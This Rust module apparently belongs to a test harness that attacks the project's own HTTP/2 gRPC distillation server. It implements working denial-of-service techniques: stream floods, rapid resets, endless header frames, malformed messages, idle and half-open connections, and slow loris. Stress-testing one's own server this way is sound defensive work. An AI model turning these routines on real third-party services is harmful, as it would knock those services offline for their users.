//! Provides the attacks: calls that are not read, floods, malformed and endless requests, silence and noise.

use std::{
    io,
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering},
    },
    time::{Duration, Instant},
};

use distill_proto::v1;
use prost::Message;
use rand::{Rng, RngCore};

use crate::http2::{Connection, FRAME_BYTES_MAX, PREFACE};

/// Streams of a connection, and more than a server lets it have.
const STREAMS: u32 = 40;

/// What an attacker knows: everything that a client may know.
#[derive(Clone)]
pub struct Target {
    pub address: String,
    pub plan: String,
    pub tokenizer: String,
    pub ids: Vec<u64>,
    pub stop: Arc<AtomicBool>,
}

/// A call with a request that the server would answer at length.
struct Call {
    path: &'static str,
    request: Vec<u8>,
}

impl Target {
    fn goes_on(&self) -> bool {
        !self.stop.load(Ordering::SeqCst)
    }

    fn calls(&self) -> Vec<Call> {
        let plan_fingerprint = || self.plan.clone();
        let service = |path, request| Call { path, request };
        let tokens = v1::TokenSequence {
            token_ids: (0..64).collect(),
            target_mask: (0..64).map(|t| t > 0).collect(),
        };
        vec![
            service(
                "/distill.v1.TeacherService/StreamBlocks",
                v1::StreamBlocksRequest {
                    plan_fingerprint: plan_fingerprint(),
                    ..Default::default()
                }
                .encode_to_vec(),
            ),
            service(
                "/distill.v1.TeacherService/FetchBlocks",
                v1::FetchBlocksRequest {
                    sequence_ids: self.ids.repeat(20),
                    plan_fingerprint: plan_fingerprint(),
                }
                .encode_to_vec(),
            ),
            service(
                "/distill.v1.TeacherService/ScoreTokens",
                v1::ScoreTokensRequest {
                    sequences: vec![tokens; 8],
                    tokenizer_fingerprint: self.tokenizer.clone(),
                }
                .encode_to_vec(),
            ),
            service(
                "/distill.v1.TeacherService/GetBasis",
                v1::GetBasisRequest {
                    plan_fingerprint: plan_fingerprint(),
                }
                .encode_to_vec(),
            ),
            service(
                "/distill.v1.TeacherService/GetVocabulary",
                v1::GetVocabularyRequest {
                    plan_fingerprint: plan_fingerprint(),
                }
                .encode_to_vec(),
            ),
            service("/distill.v1.TeacherService/GetServerInfo", vec![]),
            service(
                "/distill.v1.TeacherService/HoldDevice",
                v1::HoldDeviceRequest {
                    keeps_secret: true,
                    ..Default::default()
                }
                .encode_to_vec(),
            ),
            service(
                "/distill.v1.TeacherService/ReleaseDevice",
                vec![0x08, 1, 0x12, 1, 7],
            ),
            service("/grpc.health.v1.Health/Watch", vec![]),
            service("/grpc.health.v1.Health/Check", vec![]),
            // list_services
            service(
                "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
                vec![0x3a, 0],
            ),
            service("/no.such.Service/Call", vec![]),
        ]
    }
}

/// An attack: runs until the target says stop, and gives how often it did what it is for.
pub type Attack = fn(&Target) -> io::Result<usize>;

/// An attacker that is thrown out comes again.
pub fn repeat(target: &Target, attack: Attack) -> usize {
    let mut count = 0;
    while target.goes_on() {
        count += attack(target).unwrap_or_default();
        std::thread::sleep(Duration::from_millis(20));
    }
    count
}

fn hold(target: &Target) {
    while target.goes_on() {
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// Every call on as many streams as there may be and more, with nothing of the answers taken.
fn unread(target: &Target, window: u32) -> io::Result<usize> {
    let calls = target.calls();
    let mut open = Vec::new();
    let mut count = 0;
    for _ in 0..8 {
        let mut connection = Connection::open(&target.address, window)?;
        for number in 0..STREAMS {
            let call = &calls[number as usize % calls.len()];
            let stream = 2 * number + 1;
            connection.call(stream, call.path, &[])?;
            let length = call.request.len() as u32;
            connection.message(stream, length, &call.request, true)?;
            count += 1;
        }
        open.push(connection);
    }
    hold(target);
    Ok(count)
}

fn unread_without_a_window(target: &Target) -> io::Result<usize> {
    unread(target, 0)
}

fn unread_but_for_a_byte(target: &Target) -> io::Result<usize> {
    unread(target, 1)
}

/// The same call again and again on one connection after another.
fn flood(target: &Target, path: &str) -> io::Result<usize> {
    let calls = target.calls();
    let call = calls
        .iter()
        .find(|call| call.path.ends_with(path))
        .expect("a call");
    let mut connection = Connection::open(&target.address, 1 << 20)?;
    let mut count = 0;
    for number in 0..2000 {
        if !target.goes_on() {
            break;
        }
        let stream = 2 * number + 1;
        let request = &call.request;
        let sent = connection
            .call(stream, call.path, &[])
            .and_then(|()| connection.message(stream, request.len() as u32, request, true));
        // Thrown out, which does not undo what was done.
        if sent.is_err() {
            break;
        }
        count += 1;
        if number % 8 == 7 {
            // Time for the server to answer, and room for those answers.
            connection.is_closed_within(Duration::from_millis(5));
        }
    }
    Ok(count)
}

fn flood_of_scores(target: &Target) -> io::Result<usize> {
    flood(target, "ScoreTokens")
}

fn flood_of_fetches(target: &Target) -> io::Result<usize> {
    flood(target, "FetchBlocks")
}

fn flood_of_streams(target: &Target) -> io::Result<usize> {
    flood(target, "StreamBlocks")
}

fn flood_of_bases(target: &Target) -> io::Result<usize> {
    flood(target, "GetBasis")
}

fn flood_of_watches(target: &Target) -> io::Result<usize> {
    flood(target, "Watch")
}

fn flood_of_reflections(target: &Target) -> io::Result<usize> {
    flood(target, "ServerReflectionInfo")
}

/// Thousands of calls that are taken back at once.
fn rapid_resets(target: &Target) -> io::Result<usize> {
    let calls = target.calls();
    let mut connection = Connection::open(&target.address, 1 << 20)?;
    for number in 0..5000 {
        let stream = 2 * number + 1;
        let call = &calls[number as usize % calls.len()];
        // The server closes the connection at some point; that is what it should do.
        if connection
            .call(stream, call.path, &[])
            .and_then(|()| connection.reset(stream))
            .is_err()
        {
            return Ok(number as usize);
        }
    }
    Ok(5000)
}

/// Headers above every limit: in one frame after another, which never end, and in one call.
fn huge_metadata(target: &Target) -> io::Result<usize> {
    let value = "x".repeat(8 << 10);
    let mut connection = Connection::open(&target.address, 1 << 20)?;
    connection.call_without_end(1, "/distill.v1.TeacherService/GetServerInfo")?;
    let mut count = 0;
    while target.goes_on()
        && count < 4000
        && connection.continuation(1, &[("x-more", &value)]).is_ok()
    {
        count += 1;
    }
    let mut connection = Connection::open(&target.address, 1 << 20)?;
    connection.call(
        1,
        "/distill.v1.TeacherService/GetServerInfo",
        &[("x-more", &value[..7000]); 2],
    )?;
    Ok(count + 1)
}

/// Messages that lie about their length, are compressed, end early, or are no protobuf.
fn malformed(target: &Target) -> io::Result<usize> {
    let mut random = rand::rng();
    let mut count = 0;
    for call in target.calls() {
        let mut connection = Connection::open(&target.address, 1 << 20)?;
        let mut noise = vec![0; random.random_range(1..4096)];
        random.fill_bytes(&mut noise);
        let whole = call.request.len() as u32;
        let nested = [0x0a_u8].repeat(5000);
        for (number, (claimed, bytes)) in [
            (u32::MAX, &noise[..]),
            (1 << 30, &[]),
            (whole + 1000, &call.request),
            (whole / 2, &call.request),
            (noise.len() as u32, &noise),
            (5000, &nested),
            (0, &noise),
        ]
        .into_iter()
        .enumerate()
        {
            let stream = 2 * number as u32 + 1;
            connection.call(stream, call.path, &[("grpc-encoding", "gzip")])?;
            connection.message(stream, claimed, bytes, true)?;
            count += 1;
        }
        connection.is_closed_within(Duration::from_millis(20));
    }
    Ok(count)
}

/// Large requests that are there but for their end, on every stream.
fn half_requests(target: &Target) -> io::Result<usize> {
    const CLAIMED: u32 = 2 << 20;
    let slice = vec![0; 100_000];
    let mut open: Vec<Connection> = (0..8)
        .map(|_| Connection::open(&target.address, 1 << 20))
        .collect::<io::Result<_>>()?;
    // What takes nothing more, or was closed as it should be, is left alone: every try would wait for the write's whole time.
    let mut left_alone = Vec::new();
    let mut count = 0;
    for number in 0..32 {
        let stream = 2 * number + 1;
        left_alone.extend(open.extract_if(.., |connection| {
            let begun = connection.call(stream, "/distill.v1.TeacherService/ScoreTokens", &[]);
            let begun = begun.and_then(|()| connection.message(stream, CLAIMED, &slice, false));
            begun.is_err()
        }));
        count += open.len();
        for _ in 0..9 {
            if !target.goes_on() {
                return Ok(count);
            }
            // Time for the server to read, so that its windows are never overrun.
            std::thread::sleep(Duration::from_millis(2));
            left_alone.extend(open.extract_if(.., |connection| {
                connection.data(stream, &slice, false).is_err()
            }));
        }
    }
    hold(target);
    Ok(count)
}

/// Bytes that are no HTTP/2, alone and after its preface.
fn noise(target: &Target) -> io::Result<usize> {
    let mut noise = vec![0; FRAME_BYTES_MAX];
    rand::rng().fill_bytes(&mut noise);
    Connection::silent(&target.address)?.write(&noise)?;
    let mut connection = Connection::silent(&target.address)?;
    connection.write(PREFACE)?;
    connection.write(&noise)?;
    Ok(2)
}

/// More connections than there may be, which say nothing, or half of what begins a connection.
fn silence(target: &Target) -> io::Result<usize> {
    let mut open = Vec::new();
    for number in 0..300 {
        let mut connection = Connection::silent(&target.address)?;
        match number % 3 {
            0 => {}
            1 => connection.write(&PREFACE[..12])?,
            _ => connection.write(PREFACE)?,
        }
        open.push(connection);
    }
    let count = open.len();
    let until = Instant::now() + Duration::from_secs(3);
    while target.goes_on() && Instant::now() < until {
        std::thread::sleep(Duration::from_millis(20));
    }
    Ok(count)
}

/// A byte now and then.
fn slow_loris(target: &Target) -> io::Result<usize> {
    let mut open: Vec<Connection> = (0..10)
        .map(|_| Connection::silent(&target.address))
        .collect::<io::Result<_>>()?;
    let mut count = 0;
    for byte in PREFACE.iter().cycle().take(1000) {
        if !target.goes_on() {
            break;
        }
        for connection in &mut open {
            count += usize::from(connection.write(&[*byte]).is_ok());
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    Ok(count)
}

pub const ATTACKS: [(&str, Attack); 16] = [
    ("unread, window 0", unread_without_a_window),
    ("unread, window 1", unread_but_for_a_byte),
    ("flood of ScoreTokens", flood_of_scores),
    ("another flood of ScoreTokens", flood_of_scores),
    ("flood of FetchBlocks", flood_of_fetches),
    ("flood of StreamBlocks", flood_of_streams),
    ("flood of GetBasis", flood_of_bases),
    ("flood of Watch", flood_of_watches),
    ("flood of reflection", flood_of_reflections),
    ("rapid resets", rapid_resets),
    ("huge metadata", huge_metadata),
    ("malformed messages", malformed),
    ("half requests", half_requests),
    ("noise", noise),
    ("silence", silence),
    ("slow loris", slow_loris),
];
